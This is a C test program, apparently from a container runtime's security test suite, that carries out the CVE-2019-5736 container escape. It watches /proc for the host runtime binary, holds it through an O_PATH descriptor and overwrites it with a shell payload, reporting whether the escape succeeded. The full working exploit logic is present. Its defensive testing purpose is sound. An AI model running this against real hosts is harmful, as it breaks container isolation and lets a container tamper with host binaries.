// CVE-2019-5736 from inside: while the host runs `corral exec` into this container, watch
// /proc for a process whose exe is the host's corral binary, hold it with an O_PATH fd, and
// once it stops running reopen it for writing through /proc/self/fd. The test makes corral
// run inside either while it joins (a non-dumpable helper must not be openable) or as the
// interpreter of a `#!/proc/self/exe` script it is asked to exec.
// Prints "seen=<n> held=<n> denied=<n>" and an ESCAPE line if it wrote the binary.
// Usage: exe_overwrite MS NEEDLE
#include "hostile.h"

#include <dirent.h>
#include <fcntl.h>
#include <time.h>
#include <unistd.h>

enum { MAX_HELD = 64 };

static long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static const char payload[] = "#!/bin/sh\necho overwritten from inside a container\n";

// Reopens a held exe for writing; fails with ETXTBSY while anything still runs it.
static int try_overwrite(int held) {
    char path[64];
    int fd;
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        if (errno == ETXTBSY) return 0;
        refused("reopen a held exe for writing", errno);
        return -1;
    }
    if (write(fd, payload, sizeof payload - 1) > 0) escaped("wrote the host binary through a held /proc/<pid>/exe");
    else escaped("opened the host binary for writing (write: %s)", strerror(errno));
    close(fd);
    return 1;
}

int main(int argc, char **argv) {
    int held[MAX_HELD], nheld = 0, seen = 0, denied = 0, i, self = getpid();
    long deadline;
    if (argc < 3) broken("usage");
    deadline = now_ms() + atol(argv[1]);
    printf("watching\n");
    fflush(stdout);
    while (now_ms() < deadline) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        if (!d) broken("opendir /proc");
        while ((e = readdir(d))) {
            char path[64], link[4096];
            ssize_t n;
            int pid = atoi(e->d_name), fd;
            if (pid <= 0 || pid == self) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            n = readlink(path, link, sizeof link - 1);
            if (n < 0) {
                if (errno == EACCES || errno == EPERM) denied++;
                continue;
            }
            link[n] = '\0';
            if (!strstr(link, argv[2])) continue;
            seen++;
            fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd >= 0) {
                escaped("opened running host binary %s for writing", link);
                close(fd);
            }
            fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            if (nheld < MAX_HELD) held[nheld++] = fd;
            else close(fd);
        }
        closedir(d);
        for (i = 0; i < nheld; i++) {
            if (try_overwrite(held[i]) != 0) {
                close(held[i]);
                held[i--] = held[--nheld];
            }
        }
    }
    // Whatever ran the binary has long exited by now: one last try for each held fd.
    for (i = 0; i < nheld; i++) try_overwrite(held[i]);
    printf("seen=%d held=%d denied=%d\n", seen, nheld, denied);
    return finish();
}
